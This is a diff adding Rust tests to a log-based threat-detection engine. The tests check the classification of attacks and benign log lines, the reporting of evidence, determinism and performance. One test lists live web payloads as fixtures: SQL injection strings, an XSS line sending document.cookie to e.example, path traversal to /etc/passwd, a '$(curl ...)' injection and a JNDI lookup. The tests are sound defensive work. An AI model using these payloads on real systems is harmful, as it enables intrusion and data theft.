@@ -35,3 +35,146 @@ impl Engine {
         self.rules.len()
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use std::sync::LazyLock;
+
+    use proptest::prelude::*;
+    use sentinelflow_domain::{
+        analysis::{Category, Severity},
+        log_entry::{Message, Metadata, SeverityLevel, Source},
+    };
+
+    use super::*;
+
+    static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::built_in);
+
+    fn entry(source: &str, severity_level: SeverityLevel, message: &str, metadata: &str) -> LogEntry {
+        LogEntry {
+            source: Source::try_from(source.to_owned()).unwrap(),
+            event_id: 1,
+            severity_level,
+            message: Message::try_from(message.to_owned()).unwrap(),
+            metadata: Metadata::parse(metadata).unwrap(),
+            timestamp: None,
+        }
+    }
+
+    fn check(message: &str, category: Category, severity: Severity) {
+        let analysis = ENGINE.analyze(&entry("app", SeverityLevel::Info, message, "{}"));
+        let found: Vec<_> = analysis.detections.iter().map(|detection| &*detection.title).collect();
+        let judged = (analysis.category, analysis.score.severity());
+        assert_eq!(judged, (category, severity), "{message}\n{} by {found:?}", analysis.score.value());
+    }
+
+    #[test]
+    fn payloads_are_threats_whatever_they_are_wrapped_in() {
+        let payloads = [
+            ("1' or '1'='1", Category::SqlInjection),
+            ("x') AND 7=7 -- -", Category::SqlInjection),
+            ("-3 UNION ALL SELECT null,login,pw FROM members", Category::SqlInjection),
+            ("5;DROP TABLE orders--", Category::SqlInjection),
+            ("1 AND (SELECT 9 FROM (SELECT(SLEEP(9)))a)", Category::SqlInjection),
+            ("9';WAITFOR DELAY '0:0:9'--", Category::SqlInjection),
+            ("<script>fetch('//e.example/'+document.cookie)</script>", Category::Xss),
+            ("\"><svg/onload=confirm(9)>", Category::Xss),
+            ("<a href=\"javascript:alert(9)\">x</a>", Category::Xss),
+            ("../../../../etc/passwd", Category::PathTraversal),
+            ("..\\..\\..\\windows\\win.ini", Category::PathTraversal),
+            ("php://filter/convert.base64-encode/resource=index", Category::PathTraversal),
+            ("; cat /etc/hostname", Category::RemoteCodeExecution),
+            ("$(curl http://e.example/x)", Category::RemoteCodeExecution),
+            ("${jndi:ldap://e.example/a}", Category::RemoteCodeExecution),
+            ("{{config.__class__.__mro__[2]}}", Category::RemoteCodeExecution),
+        ];
+        for (payload, category) in payloads {
+            let encoded: String = payload.bytes().map(|b| format!("%{b:02X}")).collect();
+            let twice = encoded.replace('%', "%25");
+            for wrapped in [
+                payload.to_owned(),
+                format!("GET /items?id={encoded} HTTP/1.1"),
+                format!("203.0.113.7 - - [01/Jan/2026:00:00:00 +0000] \"GET /i?a=b&id={twice} HTTP/1.1\" 200 5 \"-\" \"-\""),
+            ] {
+                let analysis = ENGINE.analyze(&entry("app", SeverityLevel::Info, &wrapped, "{}"));
+                assert!(analysis.score.severity() >= Severity::High, "{wrapped}\n{analysis:?}");
+                assert_eq!(analysis.category, category, "{wrapped}\n{analysis:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn everyday_lines_are_none() {
+        for message in [
+            "LOG:  duration: 842.714 ms  statement: SELECT a FROM test WHERE b = 1 AND c = 1 UNION SELECT 2",
+            "ERROR: duplicate key value violates unique constraint \"users_pkey\"",
+            "java.lang.NullPointerException at com.example.Shop.load(Shop.java:42)",
+            "Merge branch 'main': escape <script> tags in titles and forbid ../ in paths",
+            "203.0.113.7 - - [01/Jan/2026:00:00:00 +0000] \"GET /shop?q=rock+%26+roll&page=2 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"",
+            "GET /search?q=Conan+O%27Brien HTTP/1.1",
+            "Jan  5 10:00:00 web CRON[77]: (root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)",
+            "user asked: please select the best option from the list and order by price",
+        ] {
+            check(message, Category::None, Severity::None);
+        }
+    }
+
+    #[test]
+    fn the_example_of_the_reference_is_high() {
+        let message = "SQL Injection pattern detected in header";
+        let metadata = r#"{"ip": "45.22.19.11", "path": "/api/v1/users"}"#;
+        let analysis = ENGINE.analyze(&entry("Nginx Gateway", SeverityLevel::Warning, message, metadata));
+        assert_eq!((analysis.category, analysis.score.severity()), (Category::SqlInjection, Severity::High), "{analysis:?}");
+        assert!(analysis.prevention_measures.contains("45.22.19.11"), "{}", analysis.prevention_measures);
+    }
+
+    #[test]
+    fn a_senders_grading_alone_makes_no_threat() {
+        for severity in [SeverityLevel::Info, SeverityLevel::Warning, SeverityLevel::Critical] {
+            let analysis = ENGINE.analyze(&entry("app", severity, "the lamp is on", "{}"));
+            assert!(!analysis.score.is_threat());
+        }
+    }
+
+    #[test]
+    fn what_was_found_is_told_with_its_facts() {
+        let message = r#"203.0.113.7 - - [x] "GET /i?id=1%27%20or%20%271%27=%271 HTTP/1.1" 200 5 "-" "-""#;
+        let analysis = ENGINE.analyze(&entry("nginx", SeverityLevel::Info, message, "{}"));
+        assert!(analysis.summary.contains("parameter id from 203.0.113.7"), "{}", analysis.summary);
+        let excerpt = &analysis.detections[0].evidence[0].excerpt;
+        assert!(excerpt.contains("1' or '1'='1"), "{excerpt}");
+    }
+
+    #[test]
+    fn hostile_entries_cost_little_more_than_long_ones() {
+        let parts = ["'", "%", "%25", "<", "../", "$(", "{{", "a=", "&", "GET ", "\\", "\"", ";", "(", "select ", "on", "=", "[", "\u{202e}", "0x2e"];
+        for part in parts {
+            let message = part.repeat(65_536 / part.len());
+            let start = std::time::Instant::now();
+            ENGINE.analyze(&entry("app", SeverityLevel::Info, &message, "{}"));
+            // Generous: what is guarded against takes minutes.
+            assert!(start.elapsed().as_secs() < 5, "{part}: {:?}", start.elapsed());
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn any_text_is_judged_and_always_alike(message in "\\PC{1,300}", marks in "[ '\"<>%&=;|$(){}/.*a-f0-9#\\\\-]{1,300}", level in 0..3_usize) {
+            let severity = [SeverityLevel::Info, SeverityLevel::Warning, SeverityLevel::Critical][level];
+            for text in [&message, &marks] {
+                let metadata = serde_json::json!({ "path": text, "params": { "q": text }, "user": text, "n": 1 }).to_string();
+                for message in [text.clone(), format!("GET /x?a={text} HTTP/1.1"), format!("Jan  1 00:00:00 h sshd[1]: Failed password for {text} from {text}")] {
+                    let entry = entry("app", severity, &message, &metadata);
+                    prop_assert_eq!(ENGINE.analyze(&entry), ENGINE.analyze(&entry));
+                }
+            }
+        }
+
+        #[test]
+        fn a_graver_grading_never_lowers_a_score(text in "[ '\"<>=;|$()/.*a-z0-9#-]{1,80}") {
+            let scores = [SeverityLevel::Info, SeverityLevel::Warning, SeverityLevel::Critical]
+                .map(|severity| ENGINE.analyze(&entry("app", severity, &text, "{}")).score);
+            prop_assert!(scores.is_sorted(), "{:?}", scores);
+        }
+    }
+}
